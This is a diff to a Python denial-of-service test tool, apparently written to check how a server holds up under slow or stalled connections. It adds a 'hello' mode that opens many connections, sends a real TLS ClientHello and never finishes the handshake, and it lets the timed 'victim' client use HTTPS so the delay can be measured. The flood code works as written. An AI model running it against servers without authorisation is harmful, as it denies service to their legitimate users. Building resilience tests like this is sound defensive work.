@@ -8,6 +8,8 @@
             --read-first reads one response first, then stops
   slowhead  connections that send a request head a few bytes at a time
   idle      connections that send nothing
+  hello     connections that send a TLS ClientHello and never finish the
+            handshake (the server's flight is left unread)
   victim    a well-behaved client on another address: sequential requests
             on new connections, then a keep-alive series; each timed
   heavy     many keep-alive connections from one address (a NAT), each
@@ -30,6 +32,7 @@ import resource
 import select
 import signal
 import socket
+import ssl
 import struct
 import sys
 import termios
@@ -304,6 +307,26 @@ def c_idle(a):
     return Attack(a, b"").run()
 
 
+def client_hello(sni):
+    """The bytes of a real ClientHello (the ssl module over memory); every
+    connection sends the same one, which a server cannot tell from many
+    clients' (no 0-RTT, so no replay check applies)."""
+    ctx = ssl.create_default_context()
+    out = ssl.MemoryBIO()
+    obj = ctx.wrap_bio(ssl.MemoryBIO(), out, server_hostname=sni)
+    try:
+        obj.do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    hello = out.read()
+    check(len(hello) > 100 and hello[0] == 22, "no ClientHello from the ssl module")
+    return hello
+
+
+def c_hello(a):
+    return Attack(a, client_hello(a.sni)).run()
+
+
 # ---- the victim ----
 
 
@@ -318,8 +341,14 @@ class Victim:
         self.auth = ("Authorization: Bearer " + "v" * a.auth + "\r\n") if a.auth else ""
 
     def connect(self, deadline):
-        return Conn(self.a.host, self.a.port, src=self.a.src[0],
-                    timeout=max(0.01, deadline - time.monotonic()))
+        c = Conn(self.a.host, self.a.port, src=self.a.src[0],
+                 timeout=max(0.01, deadline - time.monotonic()))
+        if self.a.cafile:
+            # The handshake is timed with the request: it is what a
+            # handshake flood would delay.
+            ctx = ssl.create_default_context(cafile=self.a.cafile)
+            c.sock = ctx.wrap_socket(c.sock, server_hostname=self.a.sni)
+        return c
 
     def request(self, c, path, deadline):
         host = "[%s]" % self.a.host if ":" in self.a.host else self.a.host
@@ -619,6 +648,9 @@ def main():
     sp.add_argument("--interval", type=float, default=1.0)
     sp = sub.add_parser("idle")
     attacker(sp)
+    sp = sub.add_parser("hello")
+    attacker(sp)
+    sp.add_argument("--sni", required=True, help="the server name in the ClientHello")
     sp = sub.add_parser("victim")
     common(sp)
     sp.add_argument("--target", default="https://k8s.gcr.io")
@@ -632,6 +664,8 @@ def main():
     sp.add_argument("--auth", type=int, default=0,
                     help="an Authorization header of this size; the head in two send()s")
     sp.add_argument("--health", action="store_true", help="/healthz and /readyz, 200 expected")
+    sp.add_argument("--cafile", help="HTTPS: verify the server with this CA")
+    sp.add_argument("--sni", help="HTTPS: the server name to send and verify")
     sp = sub.add_parser("heavy")
     common(sp)
     sp.add_argument("--target", default="https://k8s.gcr.io")
